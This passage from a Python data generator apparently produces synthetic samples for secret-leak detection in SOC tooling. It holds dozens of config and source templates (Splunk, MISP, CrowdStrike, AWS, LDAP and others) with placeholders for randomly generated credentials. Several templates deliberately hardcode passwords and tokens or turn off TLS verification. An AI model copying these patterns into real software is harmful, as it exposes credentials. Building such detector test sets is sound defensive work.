    "[sftp-evidence]\ntype = sftp\nhost = {host}\nuser = {user}\npass = {S}\nshell_type = unix",
    lambda: b64u(30), "host = {host}")
CFG("wpa-supplicant-network-psk",
    "network={\n    ssid=\"SOC-Lab\"\n    key_mgmt=WPA-PSK\n    psk=\"{S}\"\n}",
    pw, "ssid=\"SOC-Lab\"")
CFG("openvpn-auth-user-pass-two-lines",
    "# /etc/openvpn/client/soc-vpn.auth  (referenced by auth-user-pass in soc-vpn.conf)\n{user}\n{S}",
    pw, "/etc/openvpn/client/soc-vpn.auth")
CFG("misp-config-php-security-salt",
    "  'Security' =>\n  array (\n    'level' => 'medium',\n    'salt' => '{S}',\n    'cipherSeed' => '',\n  ),\n  'MISP' =>\n  array (\n    'baseurl' => 'https://misp.{org}.internal',",
    lambda: al(32), "'baseurl' => 'https://misp.{org}.internal'")
CFG("misp-database-php-password",
    "class DATABASE_CONFIG {\n    public $default = array(\n        'datasource' => 'Database/Mysql',\n        'host' => '{host}',\n        'login' => 'misp',\n        'password' => '{S}',\n        'database' => 'misp',\n    );\n}",
    pw, "'host' => '{host}'")
CFG("thehive-application-conf-play-secret",
    "# /etc/thehive/application.conf\nplay.http.secret.key=\"{S}\"\ndb.janusgraph.storage.hostname = [\"{host}\"]",
    lambda: al(64), "/etc/thehive/application.conf")
CFG("cortex-hocon-analyzer-key",
    "analyzer {\n  config {\n    VirusTotal_GetReport_3_1 {\n      key = \"{S}\"\n      polling_interval = 60\n    }\n  }\n}",
    lambda: hexs(64), "VirusTotal_GetReport_3_1")
CFG("opencti-dotenv-admin-password",
    "OPENCTI_ADMIN_EMAIL={email}\nOPENCTI_ADMIN_PASSWORD={S}\nOPENCTI_ADMIN_TOKEN=${OPENCTI_ADMIN_TOKEN}\nOPENCTI_BASE_URL=http://localhost:8080",
    pw, "OPENCTI_ADMIN_TOKEN=${OPENCTI_ADMIN_TOKEN}")
CFG("opencti-connector-config-token",
    "opencti:\n  url: 'http://opencti:8080'\n  token: '{S}'\nconnector:\n  id: '{uuid}'\n  type: 'EXTERNAL_IMPORT'\n  name: 'AlienVault'\n  scope: 'alienvault'",
    guid, "id: '{uuid}'")
CFG("wazuh-ossec-integration-api-key",
    "<integration>\n  <name>virustotal</name>\n  <api_key>{S}</api_key>\n  <group>syscheck</group>\n  <alert_format>json</alert_format>\n</integration>",
    lambda: hexs(64), "<name>virustotal</name>")
CFG("nxlog-om-http-addheader-splunk",
    "<Output splunk_hec>\n    Module      om_http\n    URL         https://{host}:8088/services/collector/raw\n    AddHeader   Authorization: Splunk {S}\n    HTTPSAllowUntrusted TRUE\n</Output>",
    guid, "https://{host}:8088/services/collector/raw")
CFG("rsyslog-omhttp-httpheadervalue",
    "action(type=\"omhttp\" server=\"{host}\" serverport=\"8088\" restpath=\"services/collector/raw\"\n       httpheaderkey=\"Authorization\" httpheadervalue=\"Splunk {S}\" usehttps=\"on\")",
    guid, "server=\"{host}\" serverport=\"8088\"")
CFG("telegraf-influxdb-v2-token",
    "[[outputs.influxdb_v2]]\n  urls = [\"https://{host}:8086\"]\n  token = \"{S}\"\n  organization = \"soc\"\n  bucket = \"sensor-health\"",
    lambda: b64u(64) + "==", "bucket = \"sensor-health\"")
CFG("promtail-basic-auth-grafana-cloud",
    "clients:\n  - url: https://logs-prod-012.grafana.net/loki/api/v1/push\n    basic_auth:\n      username: {num}\n      password: {S}",
    _glc, "https://logs-prod-012.grafana.net/loki/api/v1/push")
CFG("grafana-ini-admin-password",
    "[security]\nadmin_user = admin\nadmin_password = {S}\ndisable_gravatar = true\ncookie_secure = true",
    pw, "admin_user = admin")
CFG("kibana-yml-elasticsearch-password",
    "server.publicBaseUrl: \"https://kibana.{org}.internal\"\nelasticsearch.hosts: [\"https://{host}:9200\"]\nelasticsearch.username: \"kibana_system\"\nelasticsearch.password: \"{S}\"",
    pw, "elasticsearch.username: \"kibana_system\"")
CFG("kibana-yml-encrypted-saved-objects-key",
    "xpack.encryptedSavedObjects.encryptionKey: \"{S}\"\nxpack.reporting.roles.enabled: false\nxpack.fleet.agents.enabled: true",
    lambda: al(32), "xpack.fleet.agents.enabled: true")
CFG("fleetdm-enroll-secret-spec",
    "apiVersion: v1\nkind: enroll_secret\nspec:\n  secrets:\n  - secret: {S}\n    team: soc-linux",
    lambda: al(32), "kind: enroll_secret")
CFG("arm-template-workspace-key-default",
    "\"parameters\": {\n  \"workspaceId\": {\"type\": \"string\", \"defaultValue\": \"{uuid}\"},\n  \"workspaceKey\": {\n    \"type\": \"securestring\",\n    \"defaultValue\": \"{S}\"\n  }\n}",
    azkey, "\"defaultValue\": \"{uuid}\"")
CFG("appsettings-eventhub-connection-string",
    "{\n  \"EventHub\": {\n    \"ConnectionString\": \"Endpoint=sb://{org}-siem.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey={S};EntityPath=defender-stream\"\n  }\n}",
    lambda: b64(32), "EntityPath=defender-stream")
CFG("azure-storage-connection-string-accountkey",
    "LOG_ARCHIVE_CONN=\"DefaultEndpointsProtocol=https;AccountName={org}soclogs;AccountKey={S};EndpointSuffix=core.windows.net\"",
    azkey, "AccountName={org}soclogs")
CFG("terraform-tfvars-falcon-client-secret",
    "crowdstrike_client_id     = \"{md5}\"\ncrowdstrike_client_secret = \"{S}\"\ncrowdstrike_cloud         = \"us-2\"",
    cs_secret, "crowdstrike_cloud         = \"us-2\"")
CFG("vault-hcl-transit-seal-token",
    "seal \"transit\" {\n  address    = \"https://{host}:8200\"\n  token      = \"{S}\"\n  key_name   = \"autounseal\"\n  mount_path = \"transit/\"\n}",
    hvs, "key_name   = \"autounseal\"")
CFG("ansible-inventory-become-pass",
    "[wazuh_managers]\n{host} ansible_user={user} ansible_become_pass={S}\n\n[wazuh_managers:vars]\nansible_python_interpreter=/usr/bin/python3",
    pw_plain, "[wazuh_managers]")
CFG("spring-application-properties-datasource",
    "spring.datasource.url=jdbc:postgresql://{host}:5432/soar\nspring.datasource.username={user}\nspring.datasource.password={S}\nspring.jpa.hibernate.ddl-auto=validate",
    pw, "spring.datasource.url=jdbc:postgresql://{host}:5432/soar")
CFG("appsettings-mssql-connection-string",
    "\"ConnectionStrings\": {\n  \"Cases\": \"Server={host};Database=Cases;User Id={user};Password={S};TrustServerCertificate=True\"\n}",
    lambda: pw_plain(), "Server={host};Database=Cases")
CFG("web-config-add-connectionstring",
    "<connectionStrings>\n  <add name=\"SocDb\" connectionString=\"Data Source={host};Initial Catalog=Soc;User ID={user};Password={S}\" providerName=\"System.Data.SqlClient\" />\n</connectionStrings>",
    pw_plain, "providerName=\"System.Data.SqlClient\"")
CFG("tomcat-users-xml-user",
    "<tomcat-users>\n  <role rolename=\"manager-gui\"/>\n  <user username=\"{user}\" password=\"{S}\" roles=\"manager-gui\"/>\n</tomcat-users>",
    pw, "<role rolename=\"manager-gui\"/>")
CFG("keepalived-auth-pass",
    "vrrp_instance SYSLOG_VIP {\n    state MASTER\n    interface eth0\n    virtual_router_id 51\n    authentication {\n        auth_type PASS\n        auth_pass {S}\n    }\n    virtual_ipaddress { {ip} }\n}",
    lambda: al(8), "vrrp_instance SYSLOG_VIP")
CFG("haproxy-stats-auth",
    "listen stats\n    bind :8404\n    stats enable\n    stats uri /stats\n    stats auth admin:{S}",
    pw_noat, "stats uri /stats")
CFG("nginx-proxy-set-header-basic",
    "location /kibana/ {\n    proxy_pass https://{host}:5601/;\n    proxy_set_header Authorization \"Basic {S}\";\n}",
    up_pair(), "proxy_pass https://{host}:5601/;")
CFG("redis-conf-requirepass",
    "bind 0.0.0.0\nport 6379\nrequirepass {S}\nmaxmemory 2gb\nmaxmemory-policy allkeys-lru",
    pw_plain, "maxmemory-policy allkeys-lru")
CFG("smb-credentials-file",
    "# /root/.smbcred-evidence (chmod 600)\nusername={user}\npassword={S}\ndomain=CORP",
    pw, "/root/.smbcred-evidence")
CFG("fstab-cifs-inline-password",
    "//{host}/pcap  /mnt/pcap  cifs  username={user},password={S},ro,_netdev  0  0",
    pw_plain, "//{host}/pcap  /mnt/pcap  cifs")
CFG("snmpd-conf-rocommunity",
    "# /etc/snmp/snmpd.conf\nrocommunity {S} 10.0.0.0/8\nsyslocation SOC rack B4\nsyscontact soc@{orgdom}",
    pw_plain, "syslocation SOC rack B4")
CFG("snmpv3-createuser-auth-pass",
    "createUser soc-monitor SHA \"{S}\" AES \"{aes}\"\nrouser soc-monitor priv",
    lambda: (pw_plain(), {"aes": pw_plain()}), "rouser soc-monitor priv")
CFG("sssd-ldap-default-authtok",
    "[domain/corp]\nid_provider = ldap\nldap_uri = ldaps://{host}\nldap_default_bind_dn = CN={user},OU=Service,DC=corp,DC=example\nldap_default_authtok = {S}",
    pw, "ldap_uri = ldaps://{host}")
CFG("bind-tsig-key-secret",
    "key \"soc-ddns\" {\n    algorithm hmac-sha256;\n    secret \"{S}\";\n};",
    lambda: b64(32), "algorithm hmac-sha256;")
CFG("wireguard-conf-interface-privatekey",
    "[Interface]\nPrivateKey = {S}\nAddress = 10.66.0.2/32\n\n[Peer]\nPublicKey = {pubk}\nEndpoint = {pip}:51820\nAllowedIPs = 10.66.0.0/24",
    lambda: (b64(32), {"pubk": b64(32)}), "Endpoint = {pip}:51820")
CFG("strongswan-ipsec-secrets-psk",
    "# /etc/ipsec.secrets\n{pip} {pip_2} : PSK \"{S}\"",
    pw, "/etc/ipsec.secrets")
CFG("chrony-keys-hex",
    "# /etc/chrony.keys\n1 SHA256 HEX:{S}",
    lambda: HEXS(64), "/etc/chrony.keys")
CFG("ios-radius-server-key",
    "radius server ISE-PSN-1\n address ipv4 {ip} auth-port 1812 acct-port 1813\n key 0 {S}\n!",
    pw_plain, "address ipv4 {ip} auth-port 1812")
CFG("ios-username-secret-type0",
    "username {user} privilege 15 secret 0 {S}\nline vty 0 4\n transport input ssh",
    pw_plain, "line vty 0 4")
CFG("pgbouncer-userlist-plaintext",
    "; /etc/pgbouncer/userlist.txt\n\"{user}\" \"{S}\"\n\"stats_reader\" \"md5{md5}\"",
    pw, "/etc/pgbouncer/userlist.txt")
CFG("enrich-tool-toml-vt-section",
    "[virustotal]\napi_key = \"{S}\"\nrate_limit_per_min = 4\n\n[misp]\nurl = \"https://misp.{org}.internal\"\nverify_ssl = false",
    lambda: hexs(64), "url = \"https://misp.{org}.internal\"")
CFG("enrich-tool-ini-shodan-key",
    "[shodan]\nkey = {S}\n\n[censys]\napi_id = {uuid}\n; censys secret is read from CENSYS_API_SECRET",
    lambda: al(32), "api_id = {uuid}")
CFG("soar-asset-json-client-secret",
    "{\n  \"asset\": {\n    \"name\": \"falcon-prod\",\n    \"product_vendor\": \"CrowdStrike\",\n    \"configuration\": {\"client_id\": \"{md5}\", \"client_secret\": \"{S}\", \"base_url\": \"https://api.crowdstrike.com\"}\n  }\n}",
    cs_secret, "\"name\": \"falcon-prod\"")
CFG("docker-compose-yaml-anchor-env",
    "x-splunk-env: &splunk-env\n  SPLUNK_START_ARGS: --accept-license\n  SPLUNK_PASSWORD: {S}\n\nservices:\n  so1:\n    image: splunk/splunk:{ver}\n    environment: *splunk-env",
    pw, "image: splunk/splunk:{ver}")
CFG("yaml-folded-block-value-next-line",
    "misp:\n  url: https://misp.{org}.internal\n  key: >-\n    {S}\n  verify: false",
    lambda: al(40), "url: https://misp.{org}.internal")
CFG("chronicle-forwarder-secret-key-json",
    "output:\n  url: malachiteingestion-pa.googleapis.com:443\n  identity:\n    collector_id: {uuid}\n    customer_id: {uuid_2}\n    secret_key: |\n      {\n        \"type\": \"service_account\",\n        \"project_id\": \"{org}-secops\",\n        \"private_key_id\": \"{sha1}\",\n        \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{S}\\n-----END PRIVATE KEY-----\\n\",\n        \"client_email\": \"forwarder@{org}-secops.iam.gserviceaccount.com\"\n      }",
    _sa_key_escaped, "collector_id: {uuid}")
CFG("gcp-service-account-key-file",
    "{\n  \"type\": \"service_account\",\n  \"project_id\": \"{org}-soc\",\n  \"private_key_id\": \"{sha1}\",\n  \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{S}\\n-----END PRIVATE KEY-----\\n\",\n  \"client_email\": \"siem-export@{org}-soc.iam.gserviceaccount.com\",\n  \"token_uri\": \"https://oauth2.googleapis.com/token\"\n}",
    _sa_key_escaped, "siem-export@{org}-soc.iam.gserviceaccount.com")
CFG("kafka-client-properties-plain-jaas",
    "security.protocol=SASL_SSL\nsasl.mechanism=PLAIN\nsasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username=\"{user}\" password=\"{S}\";\nssl.truststore.location=/etc/kafka/truststore.jks",
    pw, "sasl.mechanism=PLAIN")
CFG("falcon-siem-connector-cu-cfg",
    "[Settings]\nversion = 2\napi_url = https://api.crowdstrike.com\nrequest_token_url = https://api.crowdstrike.com/oauth2/token\nclient_id = {md5}\nclient_secret = {S}",
    cs_secret, "request_token_url = https://api.crowdstrike.com/oauth2/token")
CFG("grafana-ldap-toml-bind-password",
    "[[servers]]\nhost = \"{host}\"\nport = 636\nuse_ssl = true\nbind_dn = \"cn={user},ou=svc,dc=corp,dc=example\"\nbind_password = '{S}'",
    pw, "bind_dn = \"cn={user},ou=svc,dc=corp,dc=example\"")
CFG("xml-cdata-secret-element",
    "<credentials>\n  <credential>\n    <name>qualys-api</name>\n    <user>{user}</user>\n    <secret><![CDATA[{S}]]></secret>\n  </credential>\n</credentials>",
    pw, "<name>qualys-api</name>")
CFG("logstash-http-poller-headers-apikey",
    "input {\n  http_poller {\n    urls => {\n      urlhaus => {\n        method => get\n        url => \"https://urlhaus-api.abuse.ch/v1/urls/recent/\"\n        headers => { \"Auth-Key\" => \"{S}\" }\n      }\n    }\n    schedule => { every => \"15m\" }\n  }\n}",
    lambda: hexs(48), "https://urlhaus-api.abuse.ch/v1/urls/recent/")
CFG("filebeat-module-threatintel-misp-api-key",
    "- module: threatintel\n  misp:\n    enabled: true\n    var.url: \"https://misp.{org}.internal/events/restSearch\"\n    var.api_token: \"{S}\"\n    var.interval: 10m",
    lambda: al(40), "var.interval: 10m")
CFG("elastic-agent-policy-crowdstrike-fdr-sqs",
    "inputs:\n  - type: aws-s3\n    streams:\n      - queue_url: https://sqs.{region}.amazonaws.com/{acct}/cs-fdr-queue\n        access_key_id: {ak}\n        secret_access_key: {S}",
    lambda: (aws_secret(), {"ak": akid()}), "cs-fdr-queue")


# =====================================================================
# group: source-code  (code the agent read or wrote)
# =====================================================================
def _sas_sig():
    return b64(32).replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")


SRC("py-requests-headers-dict-vt",
    "VT_HEADERS = {\"x-apikey\": \"{S}\"}\n\ndef vt_domain(domain):\n    r = requests.get(f\"https://www.virustotal.com/api/v3/domains/{domain}\", headers=VT_HEADERS, timeout=30)\n    r.raise_for_status()\n    return r.json()",
    lambda: hexs(64), "def vt_domain(domain):")
SRC("py-vt-client-constructor",
    "import vt\n\nclient = vt.Client(\"{S}\")\nfile_obj = client.get_object(\"/files/{sha256}\")",
    lambda: hexs(64), "/files/{sha256}")
SRC("py-shodan-constructor",
    "api = shodan.Shodan(\"{S}\")\nresults = api.search('ssl.cert.subject.cn:\"{org}.example\" port:3389')\nprint(results['total'])",
    lambda: al(32), "port:3389")
SRC("py-pymisp-positional-key",
    "from pymisp import PyMISP\n\nmisp = PyMISP(\"https://misp.{org}.internal\", \"{S}\", ssl=False, debug=False)\nevents = misp.search(controller=\"attributes\", value=\"{dom}\")",
    lambda: al(40), "value=\"{dom}\"")
SRC("py-pycti-client-token",
    "from pycti import OpenCTIApiClient\n\napi = OpenCTIApiClient(\"https://opencti.{org}.internal\", \"{S}\")\nindicators = api.indicator.list(first=50)",
    guid, "api.indicator.list(first=50)")
SRC("py-splunklib-connect-kwargs",
    "service = client.connect(\n    host=\"{host}\",\n    port=8089,\n    username=\"{user}\",\n    password=\"{S}\",\n    app=\"SplunkEnterpriseSecuritySuite\",\n)",
    pw, "host=\"{host}\"")
SRC("py-elasticsearch-api-key-tuple",
    "es = Elasticsearch(\n    \"https://{host}:9200\",\n    api_key=(\"{kid}\", \"{S}\"),\n    verify_certs=False,\n)",
    lambda: (_chars(_B64U, 22), {"kid": al(20)}), "\"https://{host}:9200\"")
SRC("py-falconpy-service-class-creds",
    "from falconpy import Hosts\n\nfalcon = Hosts(client_id=\"{md5}\", client_secret=\"{S}\", base_url=\"us-2\")\nresp = falcon.query_devices_by_filter(filter=\"hostname:'{app}*'\")",
    cs_secret, "base_url=\"us-2\"")
SRC("py-boto3-client-inline-keys",
    "s3 = boto3.client(\n    \"s3\",\n    aws_access_key_id=\"{ak}\",\n    aws_secret_access_key=\"{S}\",\n    region_name=\"{region}\",\n)",
    lambda: (aws_secret(), {"ak": akid()}), "region_name=\"{region}\"")
SRC("go-const-sentinelone-token",
    "const (\n\ts1Base  = \"https://usea1-{org}.sentinelone.net\"\n\ts1Token = \"{S}\"\n)\n\nfunc newReq(ctx context.Context, path string) (*http.Request, error) {",
    s1_token, "s1Base  = \"https://usea1-{org}.sentinelone.net\"")
SRC("js-fetch-urlscan-headers",
    "const res = await fetch(\"https://urlscan.io/api/v1/scan/\", {\n  method: \"POST\",\n  headers: { \"API-Key\": \"{S}\", \"Content-Type\": \"application/json\" },\n  body: JSON.stringify({ url: target, visibility: \"unlisted\" }),\n});",
    guid, "https://urlscan.io/api/v1/scan/")
SRC("node-process-env-fallback-literal",
    "const HEC_URL = process.env.HEC_URL || \"https://{host}:8088/services/collector\";\nconst HEC_TOKEN = process.env.HEC_TOKEN || \"{S}\";",
    guid, "process.env.HEC_TOKEN")
SRC("java-static-final-password",
    "public final class QualysClient {\n    private static final String BASE = \"https://qualysapi.qg2.apps.qualys.com\";\n    private static final String USER = \"{user}\";\n    private static final String PASSWORD = \"{S}\";",
    pw, "public final class QualysClient")
SRC("csharp-sqlconnection-literal",
    "using var conn = new SqlConnection(\"Server={host};Database=Soc;User Id={user};Password={S};Encrypt=True\");\nawait conn.OpenAsync();",
    pw_plain, "await conn.OpenAsync();")
SRC("powershell-script-apitoken-variable",
    "$S1Url   = \"https://euce1-{org}.sentinelone.net\"\n$S1Token = \"{S}\"\n$headers = @{ \"Authorization\" = \"ApiToken $S1Token\" }\nInvoke-RestMethod -Uri \"$S1Url/web/api/v2.1/agents?isActive=true\" -Headers $headers",
    s1_token, "$S1Url   = \"https://euce1-{org}.sentinelone.net\"")
SRC("bash-script-tenable-key-vars",
    "#!/usr/bin/env bash\nset -euo pipefail\nTENABLE_ACCESS_KEY=\"{sha256}\"\nTENABLE_SECRET_KEY=\"{S}\"\ncurl -s -H \"X-ApiKeys: accessKey=${TENABLE_ACCESS_KEY};secretKey=${TENABLE_SECRET_KEY}\" https://cloud.tenable.com/workbenches/assets",
    lambda: hexs(64), "https://cloud.tenable.com/workbenches/assets")
SRC("ruby-net-http-basic-auth",
    "uri = URI(\"https://{host}:8834/scans\")\nreq = Net::HTTP::Get.new(uri)\nreq.basic_auth \"{user}\", \"{S}\"\nres = Net::HTTP.start(uri.hostname, uri.port, use_ssl: true) { |http| http.request(req) }",
    pw, "https://{host}:8834/scans")
SRC("rust-const-str-api-key",
    "const GREYNOISE_KEY: &str = \"{S}\";\n\nasync fn lookup(ip: &str) -> reqwest::Result<Value> {\n    Client::new().get(format!(\"https://api.greynoise.io/v3/community/{}\", ip))\n        .header(\"key\", GREYNOISE_KEY).send().await?.json().await\n}",
    lambda: al(64), "https://api.greynoise.io/v3/community/")
SRC("php-curl-httpheader-authorization",
    "$ch = curl_init('https://misp.{org}.internal/attributes/restSearch');\ncurl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: {S}', 'Accept: application/json']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);",
    lambda: al(40), "https://misp.{org}.internal/attributes/restSearch")
SRC("sql-mysql-create-user-identified-by",
    "CREATE USER 'grafana_ro'@'%' IDENTIFIED BY '{S}';\nGRANT SELECT ON soc.* TO 'grafana_ro'@'%';\nFLUSH PRIVILEGES;",
    pw, "GRANT SELECT ON soc.* TO 'grafana_ro'@'%';")
SRC("sql-postgres-alter-role-password",
    "-- migration 0042_reader_role.sql\nALTER ROLE siem_reader WITH LOGIN PASSWORD '{S}';\nGRANT USAGE ON SCHEMA detections TO siem_reader;",
    pw, "GRANT USAGE ON SCHEMA detections TO siem_reader;")
SRC("jupyter-notebook-cell-source-json",
    "{\n \"cell_type\": \"code\",\n \"execution_count\": 3,\n \"metadata\": {},\n \"source\": [\n  \"import requests\\n\",\n  \"OTX_KEY = \\\"{S}\\\"\\n\",\n  \"pulses = requests.get(URL, headers={'X-OTX-API-KEY': OTX_KEY}).json()\"\n ]\n}",
    lambda: hexs(64), "\"cell_type\": \"code\"")
SRC("py-unittest-setup-real-key",
    "class TestEnricher(unittest.TestCase):\n    def setUp(self):\n        # TODO swap for a mock, this is the team key\n        self.enricher = Enricher(api_key=\"{S}\", base=\"https://api.abuseipdb.com/api/v2\")",
    lambda: hexs(80), "class TestEnricher(unittest.TestCase):")
SRC("splunk-soar-phantom-act-parameter",
    "def run_query_1(action=None, success=None, container=None, results=None, handle=None, **kwargs):\n    parameters = [{\"query\": \"index=edr host={app}\", \"display\": \"_time,host\", \"splunk_token\": \"{S}\"}]\n    phantom.act(\"run query\", parameters=parameters, assets=[\"splunk_es\"], callback=decide_1, name=\"run_query_1\")",
    splunk_jwt, "assets=[\"splunk_es\"]")
SRC("xsoar-params-or-literal-fallback",
    "def main():\n    params = demisto.params()\n    api_key = params.get(\"apikey\") or \"{S}\"\n    client = Client(base_url=params.get(\"url\"), verify=not params.get(\"insecure\"), api_key=api_key)",
    lambda: up(32), "params = demisto.params()")
SRC("tines-story-http-agent-headers",
    "\"agents\": [\n  {\n    \"type\": \"Agents::HTTPRequestAgent\",\n    \"name\": \"AbuseIPDB check\",\n    \"options\": {\"url\": \"https://api.abuseipdb.com/api/v2/check\", \"method\": \"get\", \"headers\": {\"Key\": \"{S}\"}}\n  }\n]",
    lambda: hexs(80), "\"name\": \"AbuseIPDB check\"")
SRC("logic-app-http-action-bearer",
    "\"HTTP_Isolate_Machine\": {\n  \"type\": \"Http\",\n  \"inputs\": {\n    \"method\": \"POST\",\n    \"uri\": \"https://api.securitycenter.microsoft.com/api/machines/@{triggerBody()?['machineId']}/isolate\",\n    \"headers\": {\"Authorization\": \"Bearer {S}\"}\n  }\n}",
    jwt, "\"HTTP_Isolate_Machine\"")
SRC("py-basic-auth-header-literal",
    "# qualys api user, encoded once and pasted here\nHEADERS = {\"Authorization\": \"Basic {S}\", \"X-Requested-With\": \"soc-sync\"}",
    up_pair(), "\"X-Requested-With\": \"soc-sync\"")
SRC("django-settings-secret-key",
    "# settings/prod.py\nDEBUG = False\nALLOWED_HOSTS = [\"cases.{org}.internal\"]\nSECRET_KEY = \"{S}\"",
    lambda: _chars(_AL + "!@#%^&*(-_=+)", 50), "ALLOWED_HOSTS = [\"cases.{org}.internal\"]")
SRC("flask-config-secret-key-hex",
    "app = Flask(__name__)\napp.config[\"SECRET_KEY\"] = \"{S}\"\napp.config[\"SESSION_COOKIE_SECURE\"] = True",
    lambda: hexs(48), "app.config[\"SESSION_COOKIE_SECURE\"] = True")
SRC("py-jwt-encode-hs256-literal",
    "def issue_token(analyst):\n    return jwt.encode({\"sub\": analyst, \"role\": \"tier2\"}, \"{S}\", algorithm=\"HS256\")",
    pw, "algorithm=\"HS256\"")
SRC("go-hmac-webhook-secret-bytes",
    "var webhookSecret = []byte(\"{S}\")\n\nfunc verify(sig string, body []byte) bool {\n\tmac := hmac.New(sha256.New, webhookSecret)\n\tmac.Write(body)\n\treturn hmac.Equal([]byte(sig), []byte(hex.EncodeToString(mac.Sum(nil))))\n}",
    lambda: hexs(40), "func verify(sig string, body []byte) bool")
SRC("py-fernet-key-bytes-literal",
    "FERNET_KEY = b\"{S}\"\ncipher = Fernet(FERNET_KEY)\nenc_note = cipher.encrypt(note.encode())",
    lambda: base64.urlsafe_b64encode(rbytes(32)).decode(), "cipher = Fernet(FERNET_KEY)")
SRC("py-aes-key-fromhex",
    "AES_KEY = bytes.fromhex(\"{S}\")\nnonce = os.urandom(12)\nct = AESGCM(AES_KEY).encrypt(nonce, evidence_blob, None)",
    lambda: hexs(64), "nonce = os.urandom(12)")
SRC("ts-axios-create-template-literal",
    "export const tenable = axios.create({\n  baseURL: \"https://cloud.tenable.com\",\n  headers: { \"X-ApiKeys\": `accessKey=${ACCESS_KEY};secretKey={S}` },\n});",
    lambda: hexs(64), "baseURL: \"https://cloud.tenable.com\"")
SRC("java-jdbc-url-password-query-param",
    "Connection c = DriverManager.getConnection(\n    \"jdbc:mysql://{host}:3306/ossim?user={user}&password={S}&useSSL=true\");",
    pw_url, "jdbc:mysql://{host}:3306/ossim")
SRC("kotlin-okhttp-add-header-bearer",
    "val request = Request.Builder()\n    .url(\"https://api.{org}.example/v1/detections\")\n    .addHeader(\"Authorization\", \"Bearer {S}\")\n    .build()",
    lambda: jwt(alg="HS256"), "https://api.{org}.example/v1/detections")
SRC("go-struct-literal-elastic-password",
    "cfg := elasticsearch.Config{\n\tAddresses: []string{\"https://{host}:9200\"},\n\tUsername:  \"elastic\",\n\tPassword:  \"{S}\",\n}",
    pw, "Username:  \"elastic\"")
SRC("py-smtplib-login-alert-mailbox",
    "with smtplib.SMTP(\"smtp.{orgdom}\", 587) as server:\n    server.starttls()\n    server.login(\"soc-alerts@{orgdom}\", \"{S}\")\n    server.send_message(msg)",
    pw, "soc-alerts@{orgdom}")
SRC("py-paramiko-connect-password",
    "ssh = paramiko.SSHClient()\nssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nssh.connect(\"{host}\", username=\"{user}\", password=\"{S}\", timeout=10)",
    pw, "ssh.connect(\"{host}\"")
SRC("py-ldap3-connection-password",
    "server = Server(\"ldaps://{host}\", get_info=ALL)\nconn = Connection(server, user=\"CORP\\\\{user}\", password=\"{S}\", auto_bind=True)",
    pw, "ldaps://{host}")
SRC("py-redis-from-url-password",
    "r = redis.Redis.from_url(\"redis://:{S}@{host}:6379/2\")\nr.sadd(\"ioc:domains\", *domains)",
    pw_url, "r.sadd(\"ioc:domains\", *domains)")
SRC("py-sqlalchemy-create-engine-dsn",
    "engine = create_engine(\"postgresql+psycopg2://{user}:{S}@{host}:5432/soc_cases\", pool_pre_ping=True)",
    pw_url, "{host}:5432/soc_cases")
SRC("py-pymongo-srv-uri",
    "client = MongoClient(\"mongodb+srv://{user}:{S}@cluster0.{short}.mongodb.net/?retryWrites=true&w=majority\")\ndb = client[\"phish_triage\"]",
    pw_url, "db = client[\"phish_triage\"]")
SRC("node-kafkajs-sasl-object",
    "const kafka = new Kafka({\n  clientId: \"alert-router\",\n  brokers: [\"{host}:9093\"],\n  ssl: true,\n  sasl: { mechanism: \"scram-sha-512\", username: \"{user}\", password: \"{S}\" },\n});",
    pw, "clientId: \"alert-router\"")
SRC("dockerfile-env-api-key",
    "FROM python:3.12-slim\nWORKDIR /app\nENV OTX_API_KEY={S}\nCOPY requirements.txt .\nRUN pip install -r requirements.txt",
    lambda: hexs(64), "FROM python:3.12-slim")
SRC("makefile-default-var-key",
    "VT_KEY ?= {S}\n\nenrich:\n\tpython3 enrich.py --vt-key $(VT_KEY) --in iocs.csv",
    lambda: hexs(64), "python3 enrich.py --vt-key $(VT_KEY)")
SRC("perl-lwp-credentials",
    "my $ua = LWP::UserAgent->new(ssl_opts => { verify_hostname => 0 });\n$ua->credentials(\"{host}:8834\", \"Nessus\", \"{user}\", \"{S}\");",
    pw, "$ua->credentials(\"{host}:8834\"")
SRC("lua-nginx-set-header-splunk",
    "access_by_lua_block {\n    ngx.req.set_header(\"Authorization\", \"Splunk {S}\")\n}",
    guid, "access_by_lua_block")
SRC("c-define-token-macro",
    "#define CRIBL_URL   \"https://cribl.{org}.internal:10080\"\n#define CRIBL_TOKEN \"{S}\"\n\nstatic int send_batch(const char *buf, size_t len);",
    lambda: al(32), "#define CRIBL_URL   \"https://cribl.{org}.internal:10080\"")
SRC("py-dataclass-default-password",
    "@dataclass\nclass QualysConfig:\n    base_url: str = \"https://qualysapi.qg3.apps.qualys.com\"\n    username: str = \"{user}\"\n    password: str = \"{S}\"",
    pw, "class QualysConfig:")
SRC("py-nested-dict-shared-key",
    "CONFIG = {\n    \"sentinel\": {\n        \"workspace_id\": \"{uuid}\",\n        \"shared_key\": \"{S}\",\n        \"log_type\": \"SocEnrichment\",\n    },\n}",
    azkey, "\"workspace_id\": \"{uuid}\"")
SRC("py-environ-setdefault-literal",
    "os.environ.setdefault(\"SHODAN_API_KEY\", \"{S}\")\napi = shodan.Shodan(os.environ[\"SHODAN_API_KEY\"])",
    lambda: al(32), "api = shodan.Shodan(os.environ[\"SHODAN_API_KEY\"])")
SRC("py-slack-webclient-bot-token",
    "slack = WebClient(token=\"{S}\")\nslack.chat_postMessage(channel=\"{chan}\", text=summary, unfurl_links=False)",
    xoxb, "unfurl_links=False")
SRC("py-telegram-bot-url-token",
    "BOT_URL = \"https://api.telegram.org/bot{S}/sendMessage\"\nrequests.post(BOT_URL, data={\"chat_id\": CHAT_ID, \"text\": alert_text})",
    telegram, "/sendMessage")
SRC("py-twilio-client-auth-token",
    "client = Client(\"AC{sid}\", \"{S}\")\nclient.messages.create(to=ONCALL_PHONE, from_=\"+15005550006\", body=page)",
    lambda: (hexs(32), {"sid": hexs(32)}), "client.messages.create(to=ONCALL_PHONE")
SRC("js-sendgrid-set-api-key",
    "const sgMail = require(\"@sendgrid/mail\");\nsgMail.setApiKey(\"{S}\");\nawait sgMail.send({ to: \"soc@{orgdom}\", from: \"noreply@{orgdom}\", subject, html });",
    sendgrid, "require(\"@sendgrid/mail\")")
